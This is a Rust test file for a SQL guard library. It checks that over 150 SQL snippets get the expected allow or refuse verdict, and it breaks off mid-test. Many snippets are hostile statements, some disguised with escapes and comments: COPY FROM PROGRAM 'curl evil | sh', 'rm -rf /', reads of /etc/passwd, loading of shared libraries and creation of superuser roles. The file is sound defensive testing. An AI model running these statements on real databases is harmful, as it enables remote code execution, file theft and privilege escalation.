//! The statement policy's verdicts on a table of SQL: hostile spellings of every refused class
//! (case, comments between words, quoted and `U&` names, schema qualification, odd whitespace,
//! nesting) and harmless look-alikes that must pass.

use wasmig_sqlguard::{Capabilities, Capability, Dialect, GuardError, Policy, StatementClass};

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Expect {
    Allowed,
    /// Refused as this class, naming this keyword.
    Refused(StatementClass, &'static str),
    /// Refused for writing the protected table.
    Table(&'static str),
    /// Refused for dropping or altering the protected schema.
    Schema,
    /// Refused as transaction control.
    Transaction,
}

const BOTH: &[Dialect] = &[Dialect::Sqlite, Dialect::Postgres];
const SQLITE: &[Dialect] = &[Dialect::Sqlite];
const PG: &[Dialect] = &[Dialect::Postgres];

use Expect::{Allowed, Refused, Schema, Table, Transaction};
use StatementClass as C;

const REV: Expect = Table("wasmig_revisions");
const EVENTS: Expect = Table("wasmig_events");

#[rustfmt::skip]
const CASES: &[(&[Dialect], &str, Expect)] = &[
    // --- Session settings (PostgreSQL) ---
    (PG, "SET search_path = evil", Refused(C::SessionSetting, "SET")),
    (PG, "set SEARCH_PATH to evil, public", Refused(C::SessionSetting, "SET")),
    (PG, "SET/* x */LOCAL/* y */search_path = evil", Refused(C::SessionSetting, "SET")),
    (PG, "SET SESSION search_path = evil", Refused(C::SessionSetting, "SET")),
    (PG, "SET \"search_path\" = evil", Refused(C::SessionSetting, "SET")),
    (PG, "SET U&\"search\\005fpath\" = evil", Refused(C::SessionSetting, "SET")),
    (PG, "SET\x0csearch_path\x0b=\tevil", Refused(C::SessionSetting, "SET")),
    (PG, "SET SCHEMA 'evil'", Refused(C::SessionSetting, "SET")),
    (PG, "SET NAMES 'SQL_ASCII'", Refused(C::SessionSetting, "SET")),
    (PG, "SET client_encoding = 'GBK'", Refused(C::SessionSetting, "SET")),
    (PG, "SET standard_conforming_strings = off", Refused(C::SessionSetting, "SET")),
    (PG, "SET backslash_quote = on", Refused(C::SessionSetting, "SET")),
    (PG, "SET escape_string_warning = off", Refused(C::SessionSetting, "SET")),
    (PG, "SET TIME ZONE 'UTC'", Refused(C::SessionSetting, "SET")),
    (PG, "SET LOCAL statement_timeout = 0", Refused(C::SessionSetting, "SET")),
    (PG, "SET idle_in_transaction_session_timeout = 0", Refused(C::SessionSetting, "SET")),
    (PG, "SET row_security = off", Refused(C::SessionSetting, "SET")),
    (PG, "SET session_replication_role = replica", Refused(C::SessionSetting, "SET")),
    (PG, "SET default_transaction_read_only = off", Refused(C::SessionSetting, "SET")),
    (PG, "SET transaction_read_only = off", Refused(C::SessionSetting, "SET")),
    (PG, "SET work_mem = '64GB'", Refused(C::SessionSetting, "SET")),
    (PG, "SET app.tenant_id = 'other'", Refused(C::SessionSetting, "SET")),
    (PG, "SET LOCAL \"app\".\"tenant_id\" TO 'other'", Refused(C::SessionSetting, "SET")),
    (PG, "SET ROLE postgres", Refused(C::SessionSetting, "SET")),
    (PG, "set local role none", Refused(C::SessionSetting, "SET")),
    (PG, "SET SESSION AUTHORIZATION postgres", Refused(C::SessionSetting, "SET")),
    (PG, "SET SESSION SESSION AUTHORIZATION DEFAULT", Refused(C::SessionSetting, "SET")),
    (PG, "RESET ROLE", Refused(C::SessionSetting, "RESET")),
    (PG, "RESET SESSION AUTHORIZATION", Refused(C::SessionSetting, "RESET")),
    (PG, "RESET statement_timeout", Refused(C::SessionSetting, "RESET")),
    (PG, "reset all", Refused(C::SessionSetting, "RESET ALL")),
    (PG, "SET TRANSACTION READ ONLY", Refused(C::SessionSetting, "SET TRANSACTION")),
    (PG, "SET TRANSACTION ISOLATION LEVEL SERIALIZABLE", Refused(C::SessionSetting, "SET TRANSACTION")),
    (PG, "SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE", Refused(C::SessionSetting, "SET SESSION CHARACTERISTICS")),
    (PG, "SELECT set_config('search_path', 'evil', false)", Refused(C::SessionSetting, "set_config")),
    (PG, "SELECT pg_catalog.set_config('role', 'x', true)", Refused(C::SessionSetting, "set_config")),
    (PG, "SELECT \"set_config\"('a', 'b', true)", Refused(C::SessionSetting, "set_config")),
    (PG, "SELECT \"pg_catalog\" . \"SET_CONFIG\" ('a', 'b', true)", Refused(C::SessionSetting, "set_config")),
    (PG, "SELECT U&\"set\\005fconfig\"('a', 'b', true)", Refused(C::SessionSetting, "set_config")),
    (PG, "SELECT U&\"set!005Fconfig\" UESCAPE '!' ('a', 'b', true)", Refused(C::SessionSetting, "set_config")),
    (PG, "SELECT set_config/**/('a', 'b', true)", Refused(C::SessionSetting, "set_config")),
    (PG, "WITH x AS (SELECT set_config('a', 'b', true)) SELECT * FROM x", Refused(C::SessionSetting, "set_config")),
    (PG, "SELECT * FROM t WHERE id IN (SELECT 1 FROM (SELECT set_config('a','b',true)) s)", Refused(C::SessionSetting, "set_config")),
    (PG, "UPDATE pg_settings SET setting = 'evil' WHERE name = 'search_path'", Refused(C::SessionSetting, "pg_settings")),
    (PG, "UPDATE pg_catalog.pg_settings SET setting = 'x'", Refused(C::SessionSetting, "pg_settings")),
    // The host's bound on lock waits (statement_lock_timeout_ms), which a revision cannot lift.
    (PG, "SET lock_timeout = '5s'", Refused(C::SessionSetting, "SET")),
    (PG, "SET LOCAL lock_timeout TO 0", Refused(C::SessionSetting, "SET")),
    (PG, "set session LOCK_TIMEOUT = default", Refused(C::SessionSetting, "SET")),
    (PG, "SELECT set_config('lock_timeout', '0', true)", Refused(C::SessionSetting, "set_config")),
    (PG, "SET SESSION client_min_messages = warning", Allowed),
    (PG, "SET check_function_bodies = false", Allowed),
    (PG, "RESET lock_timeout", Refused(C::SessionSetting, "RESET")),
    (PG, "SET CONSTRAINTS ALL DEFERRED", Allowed),
    (PG, "SELECT current_setting('search_path'), * FROM pg_settings WHERE name = 'search_path'", Allowed),
    (PG, "SHOW search_path", Allowed),
    (PG, "DISCARD ALL", Refused(C::SessionState, "DISCARD")),
    (PG, "discard plans", Refused(C::SessionState, "DISCARD")),
    (PG, "DEALLOCATE ALL", Refused(C::SessionState, "DEALLOCATE")),
    (PG, "PREPARE q AS SELECT 1", Allowed),
    // Look-alikes.
    (BOTH, "SELECT 'SET search_path = evil'", Allowed),
    (BOTH, "CREATE TABLE settings (name TEXT, setting TEXT)", Allowed),
    (BOTH, "UPDATE settings SET setting = 'x' WHERE name = 'search_path'", Allowed),
    (PG, "ALTER TABLE t ALTER COLUMN c SET DEFAULT 1", Allowed),
    (PG, "CREATE FUNCTION f() RETURNS int LANGUAGE sql SET search_path = pg_catalog AS 'SELECT 1'", Allowed),
    (PG, "SELECT $$ SELECT set_config('a','b',false) $$", Allowed),
    (SQLITE, "SELECT set_config('a', 'b')", Allowed), // not a SQLite function
    // --- COPY (PostgreSQL) ---
    (PG, "COPY t FROM '/etc/passwd'", Refused(C::ServerFiles, "COPY ... TO/FROM file")),
    (PG, "copy t (a, b) to E'/tmp/out'", Refused(C::ServerFiles, "COPY ... TO/FROM file")),
    (PG, "COPY (SELECT 1) TO '/tmp/x' WITH (FORMAT csv)", Refused(C::ServerFiles, "COPY ... TO/FROM file")),
    (PG, "COPY t FROM PROGRAM 'curl evil | sh'", Refused(C::Programs, "COPY ... PROGRAM")),
    (PG, "COPY (SELECT 'x') TO /* c */ program 'rm -rf /'", Refused(C::Programs, "COPY ... PROGRAM")),
    (PG, "COPY t TO STDOUT", Refused(C::CopyStdio, "COPY ... STDIN/STDOUT")),
    (PG, "COPY t FROM STDIN", Refused(C::CopyStdio, "COPY ... STDIN/STDOUT")),
    (PG, "\\copy t from 'x.csv'", Refused(C::PsqlMetaCommand, "\\")),
    (BOTH, "CREATE TABLE copy (a INT)", Allowed),
    (BOTH, "INSERT INTO copy VALUES (1)", Allowed),
    (BOTH, "-- COPY t TO '/tmp/x'\nSELECT 1", Allowed),
    (PG, "CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN COPY x TO '/tmp/x'; END $$", Allowed),
    // --- Server files, programs, control (PostgreSQL functions) ---
    (PG, "SELECT pg_read_file('/etc/passwd')", Refused(C::ServerFiles, "pg_read_file")),
    (PG, "SELECT PG_CATALOG.PG_READ_BINARY_FILE('x')", Refused(C::ServerFiles, "pg_read_binary_file")),
    (PG, "SELECT * FROM pg_ls_dir('.')", Refused(C::ServerFiles, "pg_ls_dir")),
    (PG, "SELECT pg_stat_file('x')", Refused(C::ServerFiles, "pg_stat_file")),
    (PG, "SELECT * FROM pg_ls_waldir()", Refused(C::ServerFiles, "pg_ls_waldir")),
    (PG, "SELECT pg_file_write('x', 'y', false)", Refused(C::ServerFiles, "pg_file_write")),
    (PG, "SELECT lo_import('/etc/passwd')", Refused(C::ServerFiles, "lo_import")),
    (PG, "SELECT lo_export(1, '/tmp/x')", Refused(C::ServerFiles, "lo_export")),
    (PG, "SELECT * FROM pg_logdir_ls()", Refused(C::ServerFiles, "pg_logdir_ls")),
    (PG, "CREATE AGGREGATE a(bool) (SFUNC = pg_read_file, STYPE = text)", Refused(C::ServerFiles, "pg_read_file")),
    (PG, "SELECT lo_from_bytea(0, 'x'), lo_get(1)", Allowed),
    (PG, "SELECT pg_terminate_backend(pid) FROM pg_stat_activity", Refused(C::ServerControl, "pg_terminate_backend")),
    (PG, "SELECT pg_cancel_backend(1)", Refused(C::ServerControl, "pg_cancel_backend")),
    (PG, "SELECT pg_reload_conf()", Refused(C::ServerControl, "pg_reload_conf")),
    (PG, "SELECT pg_rotate_logfile()", Refused(C::ServerControl, "pg_rotate_logfile")),
    (PG, "SELECT pg_promote()", Refused(C::ServerControl, "pg_promote")),
    (PG, "SELECT pg_create_logical_replication_slot('s', 'pgoutput')", Refused(C::ServerControl, "pg_create_logical_replication_slot")),
    (PG, "CHECKPOINT", Refused(C::ServerControl, "CHECKPOINT")),
    (PG, "LISTEN jobs; NOTIFY jobs, 'x'; UNLISTEN *", Allowed),
    (PG, "SELECT pg_read_file_count FROM stats", Allowed), // a longer name
    // --- Other databases ---
    (PG, "SELECT * FROM dblink('host=x', 'SELECT 1') AS t(a int)", Refused(C::RemoteDatabases, "dblink")),
    (PG, "SELECT public.dblink_exec('host=x', 'DROP TABLE t')", Refused(C::RemoteDatabases, "dblink")),
    (PG, "SELECT \"dblink_connect_u\"('x')", Refused(C::RemoteDatabases, "dblink")),
    (PG, "SELECT postgres_fdw_disconnect_all()", Refused(C::RemoteDatabases, "postgres_fdw")),
    (PG, "CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'x')", Refused(C::RemoteDatabases, "CREATE SERVER")),
    (PG, "ALTER SERVER s OPTIONS (SET host 'y')", Refused(C::RemoteDatabases, "ALTER SERVER")),
    (PG, "DROP SERVER s CASCADE", Refused(C::RemoteDatabases, "DROP SERVER")),
    (PG, "CREATE FOREIGN DATA WRAPPER w", Refused(C::RemoteDatabases, "CREATE FOREIGN ...")),
    (PG, "CREATE FOREIGN TABLE ft (a int) SERVER s", Refused(C::RemoteDatabases, "CREATE FOREIGN ...")),
    (PG, "CREATE USER MAPPING FOR CURRENT_USER SERVER s", Refused(C::RemoteDatabases, "CREATE USER MAPPING")),
    (PG, "ALTER USER MAPPING FOR u SERVER s OPTIONS (SET password 'x')", Refused(C::RemoteDatabases, "ALTER USER MAPPING")),
    (PG, "IMPORT FOREIGN SCHEMA public FROM SERVER s INTO local", Refused(C::RemoteDatabases, "IMPORT FOREIGN SCHEMA")),
    (PG, "CREATE SUBSCRIPTION s CONNECTION 'host=x' PUBLICATION p", Refused(C::RemoteDatabases, "CREATE SUBSCRIPTION")),
    (PG, "CREATE PUBLICATION p FOR ALL TABLES", Refused(C::RemoteDatabases, "CREATE PUBLICATION")),
    // --- Extensions and languages ---
    (PG, "CREATE EXTENSION pgcrypto", Refused(C::Extensions, "CREATE EXTENSION")),
    (PG, "create extension if not exists \"dblink\" with schema x", Refused(C::RemoteDatabases, "CREATE EXTENSION")),
    (PG, "CREATE EXTENSION postgres_fdw", Refused(C::RemoteDatabases, "CREATE EXTENSION")),
    (PG, "CREATE EXTENSION file_fdw", Refused(C::ServerFiles, "CREATE EXTENSION")),
    (PG, "CREATE EXTENSION adminpack", Refused(C::ServerFiles, "CREATE EXTENSION")),
    (PG, "CREATE EXTENSION plpython3u", Refused(C::UntrustedCode, "CREATE EXTENSION")),
    (PG, "ALTER EXTENSION pgcrypto UPDATE", Refused(C::Extensions, "ALTER EXTENSION")),
    (PG, "DROP EXTENSION pgcrypto", Refused(C::Extensions, "DROP EXTENSION")),
    (PG, "DROP EXTENSION IF EXISTS dblink", Refused(C::Extensions, "DROP EXTENSION")),
    (PG, "SELECT e.x FROM extension e, LATERAL dblink('host=x', 'SELECT 1') AS t(a int)", Refused(C::RemoteDatabases, "dblink")),
    (PG, "CREATE TRUSTED LANGUAGE plperl", Refused(C::Extensions, "CREATE LANGUAGE")),
    (PG, "CREATE OR REPLACE PROCEDURAL LANGUAGE plpython3u", Refused(C::UntrustedCode, "CREATE LANGUAGE")),
    (PG, "CREATE FUNCTION f() RETURNS int AS '/tmp/evil.so', 'f' LANGUAGE C", Refused(C::UntrustedCode, "LANGUAGE")),
    (PG, "CREATE FUNCTION f() RETURNS int LANGUAGE \"c\" AS 'x', 'f'", Refused(C::UntrustedCode, "LANGUAGE")),
    (PG, "CREATE FUNCTION f() RETURNS text LANGUAGE internal AS 'pg_read_file_off_len'", Refused(C::UntrustedCode, "LANGUAGE")),
    (PG, "CREATE OR REPLACE FUNCTION f() RETURNS int AS $$ import os $$ LANGUAGE plpython3u", Refused(C::UntrustedCode, "LANGUAGE")),
    (PG, "CREATE PROCEDURE p() LANGUAGE 'plperlu' AS $$ system('x') $$", Refused(C::UntrustedCode, "LANGUAGE")),
    (PG, "CREATE FUNCTION f() RETURNS int LANGUAGE E'c' AS 'x'", Refused(C::UntrustedCode, "LANGUAGE")),
    (PG, "DO LANGUAGE plpython3u $$ import os $$", Refused(C::UntrustedCode, "LANGUAGE")),
    (PG, "DO $$ BEGIN PERFORM 1; END $$ LANGUAGE pltclu", Refused(C::UntrustedCode, "LANGUAGE")),
    (PG, "CREATE FUNCTION f(language text) RETURNS TABLE (language text) LANGUAGE sql AS $$ SELECT 'x' $$", Allowed),
    (PG, "CREATE FUNCTION f() RETURNS int LANGUAGE plpgsql AS $$ BEGIN RETURN 1; END $$", Allowed),
    (PG, "CREATE FUNCTION f() RETURNS int LANGUAGE 'sql' AS 'SELECT 1'", Allowed),
    (PG, "CREATE FUNCTION f(x int) RETURNS int LANGUAGE sql RETURN x + 1", Allowed),
    (PG, "CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC SELECT language FROM t; END", Allowed),
    (PG, "DO $$ BEGIN RAISE NOTICE 'x'; END $$", Allowed),
    (BOTH, "CREATE TABLE t (language TEXT, code TEXT)", Allowed),
    (SQLITE, "SELECT load_extension('/tmp/evil.so')", Refused(C::UntrustedCode, "load_extension")),
    (SQLITE, "SELECT [LOAD_EXTENSION]('x'), `y`", Refused(C::UntrustedCode, "load_extension")),
    (SQLITE, "SELECT \"load_extension\"('x')", Refused(C::UntrustedCode, "load_extension")),
    (SQLITE, "SELECT fts3_tokenizer('x', X'00')", Refused(C::UntrustedCode, "fts3_tokenizer")),
    // --- Server settings, roles, databases ---
    (PG, "ALTER SYSTEM SET shared_preload_libraries = 'x'", Refused(C::ServerSettings, "ALTER SYSTEM")),
    (PG, "alter system reset all", Refused(C::ServerSettings, "ALTER SYSTEM")),
    (PG, "ALTER DATABASE app SET search_path = evil", Refused(C::ServerSettings, "ALTER DATABASE ... SET")),
    (PG, "ALTER DATABASE app RESET ALL", Refused(C::ServerSettings, "ALTER DATABASE ... SET")),
    (PG, "ALTER ROLE CURRENT_USER SET search_path = evil", Refused(C::ServerSettings, "ALTER ROLE ... SET")),
    (PG, "ALTER USER app IN DATABASE d SET role = postgres", Refused(C::ServerSettings, "ALTER ROLE ... SET")),
    (PG, "LOAD 'auto_explain'", Refused(C::ServerSettings, "LOAD")),
    (PG, "CREATE ROLE evil SUPERUSER", Refused(C::Roles, "CREATE ROLE")),
    (PG, "create user evil password 'x'", Refused(C::Roles, "CREATE ROLE")),
    (PG, "CREATE GROUP g", Refused(C::Roles, "CREATE ROLE")),
    (PG, "ALTER ROLE app WITH SUPERUSER", Refused(C::Roles, "ALTER ROLE")),
    (PG, "DROP ROLE IF EXISTS other_tenant", Refused(C::Roles, "DROP ROLE")),
    (PG, "DROP USER u", Refused(C::Roles, "DROP ROLE")),
    (PG, "GRANT pg_read_server_files TO CURRENT_USER", Refused(C::Roles, "GRANT role")),
    (PG, "GRANT admin, ops TO app WITH ADMIN OPTION", Refused(C::Roles, "GRANT role")),
    (PG, "REVOKE admin FROM app", Refused(C::Roles, "REVOKE role")),
    (PG, "ALTER TABLE orders OWNER TO postgres", Refused(C::Roles, "ALTER ... OWNER TO")),
    (PG, "ALTER FUNCTION f() OWNER TO other", Refused(C::Roles, "ALTER ... OWNER TO")),
    (PG, "REASSIGN OWNED BY a TO b", Refused(C::Roles, "REASSIGN OWNED")),
    (PG, "DROP OWNED BY CURRENT_USER", Refused(C::Roles, "DROP OWNED")),
    (PG, "GRANT SELECT ON orders TO reporting", Allowed),
    (PG, "GRANT SELECT (id, total) ON orders TO reporting; REVOKE ALL ON orders FROM PUBLIC", Allowed),
    (PG, "ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO reporting", Allowed),
    (PG, "CREATE DATABASE other", Refused(C::DatabaseWide, "CREATE DATABASE")),
    (PG, "DROP DATABASE other_tenant", Refused(C::DatabaseWide, "DROP DATABASE")),
    (PG, "ALTER DATABASE app RENAME TO x", Refused(C::DatabaseWide, "ALTER DATABASE")),
    (PG, "ALTER DATABASE app SET TABLESPACE t", Refused(C::DatabaseWide, "ALTER DATABASE")),
    (PG, "CREATE EVENT TRIGGER e ON ddl_command_start EXECUTE FUNCTION f()", Refused(C::DatabaseWide, "CREATE EVENT TRIGGER")),
    (PG, "CREATE TABLESPACE t LOCATION '/var/lib/x'", Refused(C::ServerFiles, "CREATE TABLESPACE")),
    (PG, "CREATE TABLE t (a int); CREATE INDEX ON t (a); CREATE VIEW v AS SELECT a FROM t", Allowed),
    // --- SQLite ---
    (SQLITE, "ATTACH DATABASE '/etc/x.db' AS x", Refused(C::ServerFiles, "ATTACH")),
    (SQLITE, "attach 'file:x?mode=rwc' as y", Refused(C::ServerFiles, "ATTACH")),
    (SQLITE, "DETACH DATABASE x", Refused(C::ServerFiles, "DETACH")),
    (SQLITE, "VACUUM INTO '/tmp/copy.db'", Refused(C::ServerFiles, "VACUUM INTO")),
    (SQLITE, "VACUUM main INTO 'x.db'", Refused(C::ServerFiles, "VACUUM INTO")),
    (SQLITE, "PRAGMA writable_schema = ON", Refused(C::Pragma, "PRAGMA")),
    (SQLITE, "pragma main.journal_mode=off", Refused(C::Pragma, "PRAGMA")),
    (SQLITE, "PRAGMA query_only(0)", Refused(C::Pragma, "PRAGMA")),
    (SQLITE, "PRAGMA \"trusted_schema\" = 1", Refused(C::Pragma, "PRAGMA")),
    (SQLITE, "PRAGMA foreign_keys = OFF", Refused(C::Pragma, "PRAGMA")),
    (SQLITE, "PRAGMA schema_version = 1", Refused(C::Pragma, "PRAGMA")),
    (SQLITE, "PRAGMA table_info(t); PRAGMA main.index_list('t'); PRAGMA foreign_keys; PRAGMA user_version", Allowed),
    (SQLITE, "PRAGMA defer_foreign_keys = ON; PRAGMA user_version = 7", Allowed),
    (SQLITE, "SELECT * FROM pragma_table_info('t')", Allowed),
    (SQLITE, "-- ATTACH 'x' AS y\nSELECT 1", Allowed),
    (SQLITE, "CREATE TABLE attach (detach INT, pragma INT)", Allowed),
    (SQLITE, "VACUUM", Allowed),
    (SQLITE, "CREATE TRIGGER t AFTER INSERT ON x BEGIN SELECT 1; ATTACH 'x' AS y; END", Refused(C::ServerFiles, "ATTACH")),
    (SQLITE, "CREATE TEMP VIEW wasmig_revisions AS SELECT 1", REV),
    (SQLITE, "CREATE TABLE temp.wasmig_events (x)", EVENTS),
    (SQLITE, "DELETE FROM 'wasmig_revisions'", REV),
    // --- The host's tables ---
    (BOTH, "SELECT * FROM wasmig_revisions", Allowed),
    (BOTH, "SELECT r.id FROM wasmig_revisions AS r JOIN wasmig_events e ON e.revision = r.id WHERE r.id = 'x'", Allowed),
    (BOTH, "SELECT count(*) FROM main.wasmig_revisions, \"wasmig_events\"", Allowed),
    (BOTH, "INSERT INTO log SELECT id FROM wasmig_revisions WHERE id NOT IN (SELECT id FROM wasmig_events)", Allowed),
    (BOTH, "DELETE FROM log USING wasmig_revisions", Allowed),
    (BOTH, "SELECT wasmig_revisions.id FROM wasmig_revisions ORDER BY wasmig_revisions.id", Allowed),
    (PG, "SELECT * FROM ONLY wasmig_revisions; TABLE wasmig_events", Allowed),
    (BOTH, "INSERT INTO my_wasmig_revisions_archive VALUES (1)", Allowed),
    (BOTH, "CREATE TABLE wasmig_revisions_archive AS SELECT * FROM wasmig_revisions", Allowed),
    (BOTH, "SELECT 'DELETE FROM wasmig_revisions'", Allowed),
    (BOTH, "INSERT INTO wasmig_revisions VALUES ('x')", REV),
    (BOTH, "insert into WASMIG_REVISIONS values ('x')", REV),
    (BOTH, "INSERT INTO \"wasmig_revisions\" VALUES ('x')", REV),
    (PG, "INSERT INTO public.\"Wasmig_Revisions\" VALUES ('x')", REV),
    (PG, "INSERT INTO U&\"wasmig\\005frevisions\" VALUES ('x')", REV),
    (SQLITE, "INSERT INTO main.[wasmig_revisions] VALUES ('x')", REV),
    (SQLITE, "INSERT INTO 'wasmig_revisions' VALUES ('x')", REV),
    (SQLITE, "REPLACE INTO `wasmig_events` VALUES ('x')", EVENTS),
    (SQLITE, "INSERT OR REPLACE INTO wasmig_events VALUES (1)", EVENTS),
    (BOTH, "UPDATE wasmig_revisions SET checksum = 'x'", REV),
    (SQLITE, "UPDATE OR IGNORE wasmig_revisions SET checksum = 'x'", REV),
    (PG, "UPDATE ONLY wasmig_revisions SET checksum = 'x'", REV),
    (BOTH, "DELETE FROM wasmig_revisions", REV),
    (PG, "DELETE FROM ONLY public.wasmig_revisions", REV),
    (PG, "WITH d AS (DELETE FROM wasmig_revisions RETURNING *) SELECT * FROM d", REV),
    (PG, "MERGE INTO wasmig_events e USING src s ON e.id = s.id WHEN MATCHED THEN DELETE", EVENTS),
    (PG, "TRUNCATE wasmig_events", EVENTS),
    (PG, "TRUNCATE TABLE log, wasmig_events", EVENTS),
    (BOTH, "DROP TABLE wasmig_events", EVENTS),
    (PG, "DROP TABLE IF EXISTS log, wasmig_events CASCADE", EVENTS),
    (BOTH, "ALTER TABLE wasmig_revisions ADD COLUMN x INT", REV),
    (BOTH, "ALTER TABLE log RENAME TO wasmig_revisions", REV),
    (BOTH, "CREATE TRIGGER t AFTER INSERT ON wasmig_revisions BEGIN SELECT 1; END", REV),
    (PG, "CREATE TRIGGER t BEFORE UPDATE ON wasmig_revisions FOR EACH ROW EXECUTE FUNCTION f()", REV),
    (PG, "CREATE RULE r AS ON INSERT TO wasmig_events DO INSTEAD NOTHING", EVENTS),
    (PG, "CREATE RULE r AS ON INSERT TO log DO ALSO (INSERT INTO a VALUES (1); DELETE FROM wasmig_events)", EVENTS),
    (PG, "CREATE POLICY p ON wasmig_revisions USING (false)", REV),
    (BOTH, "CREATE INDEX i ON wasmig_revisions (id)", REV),
    (PG, "COMMENT ON TABLE wasmig_revisions IS 'x'", REV),
    (PG, "LOCK TABLE wasmig_revisions IN ACCESS EXCLUSIVE MODE", REV),
    (PG, "LOCK wasmig_events", EVENTS),
    (PG, "GRANT ALL ON wasmig_revisions TO PUBLIC", REV),
    (PG, "COPY wasmig_revisions FROM '/tmp/x'", REV),
    (BOTH, "CREATE TABLE child (x INT REFERENCES wasmig_revisions (id))", REV),
    (PG, "CREATE TABLE fake () INHERITS (wasmig_revisions)", REV),
    (PG, "ALTER TABLE fake INHERIT wasmig_revisions", REV),
    (PG, "CREATE TABLE p PARTITION OF wasmig_revisions DEFAULT", REV),
    (BOTH, "CREATE TEMP TABLE wasmig_revisions (id TEXT)", REV),
    (PG, "CREATE TEMPORARY VIEW wasmig_events AS SELECT 1", EVENTS),
    (PG, "SELECT * INTO TEMP wasmig_revisions FROM log", REV),
    (PG, "CREATE VIEW v AS SELECT * FROM wasmig_revisions", REV),
    (PG, "CREATE OR REPLACE TEMP VIEW v AS SELECT * FROM wasmig_revisions", REV),
    (PG, "CREATE SCHEMA s CREATE TABLE t (a int) CREATE VIEW v AS SELECT * FROM wasmig_revisions", REV),
    (PG, "CREATE RULE \"_RETURN\" AS ON SELECT TO t DO INSTEAD SELECT * FROM wasmig_events", EVENTS),
    (PG, "CREATE MATERIALIZED VIEW m AS SELECT * FROM wasmig_revisions", Allowed), // not writable
    (SQLITE, "CREATE VIEW v AS SELECT * FROM wasmig_revisions", Allowed), // SQLite views are read-only
    (SQLITE, "CREATE TRIGGER t INSTEAD OF INSERT ON v BEGIN INSERT INTO wasmig_revisions VALUES (new.id); END", REV),
    (PG, "EXPLAIN ANALYZE DELETE FROM wasmig_revisions", REV),
    (PG, "PREPARE q AS UPDATE wasmig_revisions SET id = $1", REV),
    (PG, "CREATE FUNCTION f() RETURNS void LANGUAGE sql BEGIN ATOMIC DELETE FROM wasmig_events; END", EVENTS),
    // --- Protected schema (PostgreSQL) ---
    (PG, "DROP SCHEMA tenant_a CASCADE", Schema),
    (PG, "DROP SCHEMA IF EXISTS scratch, \"TENANT_A\" CASCADE", Schema),
    (PG, "ALTER SCHEMA tenant_a RENAME TO x", Schema),
    (PG, "DROP SCHEMA scratch CASCADE; CREATE SCHEMA tenant_b", Allowed),
    // --- Transaction control still first ---
    (BOTH, "SELECT 1; COMMIT", Transaction),
];

fn verdict(result: Result<wasmig_sqlguard::Approval, GuardError>) -> Expect {
    match result {
        Ok(_) => Allowed,
        Err(GuardError::Refused { class, keyword, .. }) => Refused(class, keyword),
        Err(GuardError::ProtectedTable { table, .. }) if table == "wasmig_revisions" => REV,
        Err(GuardError::ProtectedTable { table, .. }) if table == "wasmig_events" => EVENTS,
        Err(GuardError::ProtectedSchema { .. }) => Schema,
        Err(GuardError::TransactionControl { .. }) => Transaction,
        Err(other) => panic!("unexpected error {other:?}"),
    }
}

fn tables() -> Vec<String> {
    vec!["wasmig_revisions".to_owned(), "wasmig_events".to_owned()]
}

#[test]
fn every_snippet_gets_its_expected_verdict() {
    let tables = tables();
    let schemas = vec!["tenant_a".to_owned()];
    let mut failures = Vec::new();
    let mut checked = 0;
    for &(dialects, sql, expected) in CASES {
        for &dialect in dialects {
            let policy = Policy::new(dialect).protect_tables(&tables).protect_schemas(&schemas);
            let result = policy.check_script(sql);
            checked += 1;
            if verdict(result.clone()) != expected {
                failures.push(format!("{dialect:?} {sql:?}: expected {expected:?}, got {result:?}"));
            }
        }
    }
    assert!(CASES.len() >= 150, "the table must hold at least 150 snippets, has {}", CASES.len());
    assert!(failures.is_empty(), "{} of {checked} checks failed:\n{}", failures.len(), failures.join("\n"));
}

#[test]
fn every_capability_class_passes_with_its_capability_and_is_recorded() {
    let all: Capabilities = Capability::ALL.into_iter().collect();
    let tables = tables();
    let mut failures = Vec::new();
    for &(dialects, sql, expected) in CASES {
        let Refused(class, keyword) = expected else { continue };
        for &dialect in dialects {
            let policy = Policy::new(dialect).protect_tables(&tables).with_capabilities(&all);
            let result = policy.check_script(sql);
            let ok = match (class.capability(), &result) {
                (Some(capability), Ok(approval)) => {
                    approval.uses.iter().any(|used| used.capability == capability && used.keyword == keyword)
                }
                (None, Err(GuardError::Refused { class: got, .. })) => *got == class,
                _ => false,
            };
            if !ok {
                failures.push(format!("{dialect:?} {sql:?} ({class:?}): got {result:?}"));
            }
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

#[test]
fn a_refusal_names_the_class_keyword_position_and_the_way_out() {
    let sql = "CREATE TABLE t (a int);\n  -- load it\n  COPY t FROM\n '/data/t.csv'";
    let error = Policy::new(Dialect::Postgres).check_script(sql).unwrap_err();
    assert_eq!(
        error,
        GuardError::Refused {
            class: StatementClass::ServerFiles,
            keyword: "COPY ... TO/FROM file",
            subject: None,
            line: 4,
            column: 2,
            statement: "COPY t FROM '/data/t.csv'".to_owned(),
        }
    );
    let message = error.to_string();
    assert!(message.starts_with("line 4, column 2: `COPY t FROM '/data/t.csv'` is refused"), "{message}");
    assert!(message.contains("reads or writes files of the database server"), "{message}");
    assert!(message.contains("ask the operator to enable capability `server-files` in wasmig.toml"), "{message}");

    let error = Policy::new(Dialect::Postgres).check_script("SELECT 1;\nSET LOCAL Search_Path = evil").unwrap_err();
    let message = error.to_string();
    assert!(
        matches!(&error, GuardError::Refused { subject: Some(s), line: 2, column: 11, .. } if s == "search_path"),
        "{error:?}"
    );
    assert!(message.contains("(`SET` search_path)"), "{message}");
    assert!(message.contains("a revision may SET [LOCAL] or RESET only client_min_messages"), "{message}");
}

#[test]
fn a_protected_table_refusal_points_at_the_name_and_says_reads_are_fine() {
    let tables = tables();
    let policy = Policy::new(Dialect::Sqlite).protect_tables(&tables);
    let error = policy.check_statement("UPDATE\n  main.\"wasmig_events\" SET x = 1").unwrap_err();
    assert!(
        matches!(&error, GuardError::ProtectedTable { table, line: 2, column: 8, .. } if table == "wasmig_events"),
        "{error:?}"
    );
    assert!(error.to_string().contains("may read it in a query (SELECT ... FROM wasmig_events)"), "{error}");
}

#[test]
fn an_approval_lists_each_capability_use_with_its_position() {
    let capabilities: Capabilities =
        [Capability::ServerFiles, Capability::Extensions, Capability::RemoteDatabases].into_iter().collect();
    let policy = Policy::new(Dialect::Postgres).with_capabilities(&capabilities);
    let approval = policy
